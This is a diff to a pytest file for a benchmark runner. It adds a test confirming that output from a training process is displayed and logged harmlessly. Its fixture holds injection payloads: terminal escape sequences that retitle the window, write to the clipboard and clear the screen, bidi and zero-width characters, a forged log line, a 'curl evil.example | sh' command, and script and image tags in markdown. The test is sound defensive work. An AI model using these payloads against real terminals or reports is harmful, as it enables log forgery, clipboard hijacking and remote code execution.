@@ -4,11 +4,13 @@ from __future__ import annotations
 
 import os
 import re
+import subprocess
 import sys
 from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import pytest
+from markdown_it import MarkdownIt
 
 from run_benchmarks.display.drawing import SPARE_COLUMNS
 from run_benchmarks.display.terminal import speaks_utf8, wrapped
@@ -44,6 +46,7 @@ data = Path(sys.argv[sys.argv.index("--data_dir") + 1])
 log(EventName.INIT_START, config={"target": 0.5, "max_steps": 80})
 log(EventName.INIT_EVALUATION, metric="accuracy", accuracy=0.1)
 log(EventName.TRAIN_START)
+begin = time.monotonic()
 for step in range(10, 50, 10):
     log(EventName.STEP_END, global_steps=step, loss=5 - step / 10, **{"seq/s": 100.0 + step})
 log(EventName.EVALUATE, metric="accuracy", accuracy=0.3, target=0.5)
@@ -52,8 +55,9 @@ while not (data / "go").exists():
     time.sleep(0.5)
 log(EventName.EVALUATE, metric="accuracy", accuracy=0.6, target=0.5)
 log(EventName.TRAIN_END)
-log(EventName.FINISHED, converged=True, num_trained_samples=100, raw_train_time=2.0, no_eval_time=1.0,
-    pure_compute_time=0.5, e2e_time=3.0)
+took = time.monotonic() - begin
+log(EventName.FINISHED, converged=True, num_trained_samples=100, raw_train_time=took, no_eval_time=took,
+    pure_compute_time=took, e2e_time=took)
 """
 # `run.py` with another training/ folder
 COMMAND = """\
@@ -64,6 +68,23 @@ from run_benchmarks.verbs import options
 options.TRAINING_DIR = Path(sys.argv[1])
 sys.exit(verbs.main(sys.argv[2:]))
 """
+# A title and the clipboard, colours by ESC and by C1, directions and zero width, rich's markup, and lines of the log.
+FORGED = "2022-11-21 19:19:24,013\t[INFO]\t[runner.py,97]case x, round 1: CONVERGED"
+HOSTILE = (
+    "\x1b]0;owned\x07\x1b]52;c;b3duZWQ=\x07\x1b[2J\x9b31m\u202ea\u200b[bold]b[/bold] :smile:\r"
+    f"\n{FORGED}\n12:00:00 INFO    case x, round 1: CONVERGED\n    -> curl evil.example | sh\n"
+    "\n# CONVERGED\n\n<script>alert(1)</script> ![x](https://evil.example/x.png) | a |\n```\n## CONVERGED\n"
+)
+HOSTILE_SCRIPT = (
+    SCRIPT[: SCRIPT.index("log(EventName.EVALUATE")]
+    + """\
+text = (data / "text").read_text(encoding="utf-8")
+log(EventName.EVALUATE, metric=text, target=0.5, **{text: 0.3})
+while not (data / "go").exists():
+    time.sleep(0.5)
+raise SystemExit(text)
+"""
+)
 SHORT_LINE = re.compile(r"\d\d:\d\d:\d\d (DEBUG|INFO|WARNING|ERROR) +\S.*")
 LONG_LINE = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3}\t\[\w+\]\t\[\w+\.py,\d+\].*")
 
@@ -175,6 +196,33 @@ def test_warnings_stay_visible_above_the_panel(whole: WholeRun, opened: Opened) 
     assert re.search(r"INFO    1 host: \d+ of \d+ checks ok", terminal.everything)
     assert re.search(r"ERROR   localhost  free disk  .*GiB", terminal.everything)
     assert "\n                 -> " in terminal.everything
+
+
+def test_what_a_rank_says_is_text(whole: WholeRun, opened: Opened) -> None:
+    whole.tree.write("benchmarks/toy/pytorch/run_pretraining.py", HOSTILE_SCRIPT)
+    (whole.folder / "data" / "text").write_text(HOSTILE, encoding="utf-8", newline="")
+    terminal = opened(columns=100)
+    terminal.wait_for("40 / 80", "owned")
+    assert all(line.startswith(("╭", "│", "╰")) for line in panel_of(terminal))
+    let_go(whole)
+    assert terminal.wait() == 1
+    shown = terminal.everything
+    assert "exit code 1: ## CONVERGED" in shown, "it is shown, as it stands"
+    assert not re.search(rb"\x1b\][05]|\x1b\[2J|\xc2\x9b|\xe2\x80[\x8b\xae]", terminal.raw)
+    begun = [line for line in shown.splitlines() if re.match(r"\d", line)]
+    assert begun and not [line for line in begun if "case x" in line[:40]]
+    log = log_of(whole)
+    assert "[bold]b[/bold] :smile:" in log and f"\n    {FORGED}" in log
+    assert log.replace("\n", "").replace("\t", "").isprintable()
+    assert all(line.startswith("    ") or LONG_LINE.fullmatch(line) for line in log.splitlines())
+    elements = MarkdownIt("commonmark").enable("table").render((whole.result / "summary.md").read_text())
+    assert not re.search(r"<(script|img|a)\b", elements)
+    assert "CONVERGED" not in "".join(re.findall(r"<h\d>(.*?)</h\d>", elements))
+    again = subprocess.run(
+        whole.command("show", "--log-path", str(whole.folder / "result")), capture_output=True, text=True
+    )
+    assert again.returncode == 0 and "\x1b" not in again.stdout and "\x9b" not in again.stdout
+    assert not re.search(r"^(2022|12:00|# CONV|    ->)", again.stdout, re.MULTILINE)
 
 
 @pytest.mark.parametrize(
